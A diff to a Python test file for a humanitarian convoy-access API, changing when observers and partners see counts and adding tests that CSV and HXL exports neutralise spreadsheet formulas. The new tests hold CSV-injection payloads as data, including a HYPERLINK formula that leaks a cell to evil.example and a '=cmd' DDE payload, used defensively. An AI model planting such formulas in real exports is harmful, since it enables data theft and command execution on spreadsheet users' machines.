@@ -212,7 +212,10 @@ def test_observers_and_admins_get_counts_only(client, city, cast):
     for caller in ("observer", "admin"):
         assert client.get("/v1/access-requests", headers=cast[caller]).status_code == 403
         assert client.get(f"/v1/access-requests/{created['id']}", headers=cast[caller]).status_code == 404
-    counts = client.get("/v1/access-requests/counts", headers=cast["observer"]).json()
+    # Observers count requests as they stood at the start of the day (tests/test_convoy_secrecy.py);
+    # the partner counts its own at once.
+    assert client.get("/v1/access-requests/counts", headers=cast["observer"]).json() == {"items": [], "total": 0}
+    counts = client.get("/v1/access-requests/counts", headers=cast["partner"]).json()
     assert counts["total"] == 1 and counts["items"] == [{"status": "draft", "destination_city_id": city, "count": 1}]
     assert "route" not in str(counts)
     assert client.get("/v1/access-requests/counts", headers=cast["admin"]).status_code == 403
@@ -518,6 +521,53 @@ def test_csv_export_one_row_per_cargo_line_with_hxl(client, city, cast):
     assert client.get("/v1/access-requests", headers={**cast["partner"], "Accept": "text/csv"}).status_code == 403
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(client, city, cast, start):
+    """OWASP's rule for CSV injection: a cell that begins with = + - @ tab or CR gets a leading
+    apostrophe; read back with libhxl, every other cell is as it was."""
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"Click")'
+    created = _create(client, cast["partner"], city, cargo_lines=[
+        {"sector": "food", "item": formula, "quantity": 5, "unit": f"{start}SUM(1+1)"},
+        {"sector": "health", "item": "Surgical kits", "quantity": 20, "unit": "kits"},
+    ])
+    response = client.get("/v1/access-requests", headers={**cast["coordinator"], "Accept": "text/csv"})
+    rows = list(hxl.data(io.BytesIO(response.content)))
+    dangerous = next(row for row in rows if row.get("#sector") == "food")
+    # Text is stored without its surrounding white space, so a leading tab or CR may be gone already.
+    stored = next(line for line in created["cargo_lines"] if line["sector"] == "food")
+    for tag, value in (("#item+name", stored["item"]), ("#item+unit", stored["unit"])):
+        assert dangerous.get(tag) == ("'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r")) else value)
+    assert stored["item"] == formula or start in "\t\r"
+    plain = next(row for row in rows if row.get("#sector") == "health")
+    assert plain.get("#item+name") == "Surgical kits" and plain.get("#item+unit") == "kits"
+    assert dangerous.get("#meta+id") == created["id"] and dangerous.get("#indicator+num+requested") == "5"
+    for line in response.text.splitlines():
+        for cell in line.split(","):
+            assert not cell.startswith(("=", "+", "@")) or cell.startswith("'")
+
+
+def test_spreadsheet_safe_follows_owasps_rule():
+    from aidaccess.api.representations import spreadsheet_safe
+
+    for start in ("=", "+", "-", "@", "\t", "\r"):
+        assert spreadsheet_safe(f"{start}1+2") == f"'{start}1+2"
+    assert spreadsheet_safe("Rice = 5 MT") == "Rice = 5 MT"
+    assert spreadsheet_safe(-36.25) == -36.25 and spreadsheet_safe(None) is None
+
+
+def test_the_snapshots_csv_neutralises_formulas_and_keeps_numbers(client, cast):
+    coordinator = cast["coordinator"]
+    created = client.post("/v1/cities", json={
+        "name": "=cmd|' /C calc'!A0", "name_ar": "@SUM(1)", "pcode": "C9876", "adm1_pcode": "SY03", "adm1_name": "-Rural",
+        "latitude": -33.5, "longitude": -36.25}, headers=coordinator)
+    assert created.status_code == 201, created.text
+    response = client.get("/v1/access-snapshot", params={"format": "hxl"}, headers=coordinator)
+    row = next(r for r in hxl.data(io.BytesIO(response.content)) if r.get("#meta+id") == created.json()["id"])
+    assert row.get("#loc+name") == "'=cmd|' /C calc'!A0" and row.get("#loc+name+i_ar") == "'@SUM(1)"
+    assert row.get("#adm1+name") == "'-Rural"
+    assert row.get("#geo+lat") == "-33.5" and row.get("#geo+lon") == "-36.25"  # numbers are not formulas
+
+
 # ---- the convoy story ----------------------------------------------------------------
 
 
@@ -537,14 +587,15 @@ def test_a_convoy_from_draft_to_partially_delivered(client, city, cast):
     assert _do(client, partner, request_id, "submit").status_code == 200
     approved = _do(client, coordinator, request_id, "approve", {"lines": [{"line_id": kits, "approved_quantity": 15}], "note": "Kits reduced"})
     assert approved.json()["status"] == "approved" and approved.json()["approved_at"]
-    # An approved convoy shows in the city's picture as upcoming; observers see its count only.
-    picture = client.get(f"/v1/cities/{city}/access", headers=partner).json()
+    # An approved convoy shows in the city's picture as upcoming at once to who reads every convoy; to the
+    # rest as of the start of the taskforce's day, so from tomorrow (observers: its count only).
+    picture = client.get(f"/v1/cities/{city}/access", headers=coordinator).json()
     assert picture["convoys"]["upcoming_count"] == 1 and picture["convoys"]["upcoming"][0]["id"] == request_id
     assert picture["convoys"]["upcoming"][0]["organization_name"] == "WFP"
-    observer_view = client.get(f"/v1/cities/{city}/access", headers=cast["observer"]).json()["convoys"]
-    assert observer_view == {"upcoming_count": 1, "upcoming": None, "upcoming_truncated": False}
-    other_partner = client.get(f"/v1/cities/{city}/access", headers=cast["partner_other"]).json()["convoys"]
-    assert other_partner == {"upcoming_count": 1, "upcoming": [], "upcoming_truncated": False}
+    for caller in ("partner", "observer", "partner_other"):
+        assert client.get(f"/v1/cities/{city}/access", headers=cast[caller]).json()["convoys"]["upcoming_count"] == 0
+    tomorrow = {"as_of": (datetime.now(UTC) + timedelta(days=1)).isoformat()}  # never later than the start of today
+    assert client.get(f"/v1/cities/{city}/access", params=tomorrow, headers=partner).json()["convoys"]["upcoming_count"] == 0
     assert _do(client, partner, request_id, "dispatch", {"note": "Left at dawn"}).json()["status"] == "dispatched"
     inconsistent = _do(client, partner, request_id, "complete", {"outcome": "delivered", "lines": [
         {"line_id": food, "delivered_quantity": 4000}, {"line_id": kits, "delivered_quantity": 0, "removed_quantity": 15,
@@ -579,7 +630,8 @@ def test_a_convoy_from_draft_to_partially_delivered(client, city, cast):
     assert picture["convoys"]["upcoming_count"] == 0
     assert picture["last_delivery"]["outcome"] == "partially_delivered" and picture["last_delivery"]["access_request_id"] == request_id
     assert picture["days_since_last_delivery"] == 0
-    assert client.get(f"/v1/cities/{city}/access", headers=cast["observer"]).json()["last_delivery"]["access_request_id"] is None
+    # Reported today: the rest see it from tomorrow, by its day (tests/test_convoy_secrecy.py).
+    assert client.get(f"/v1/cities/{city}/access", headers=cast["observer"]).json()["last_delivery"] is None
 
 
 def test_coordinators_may_cancel_and_record_outcomes(client, city, cast, session):
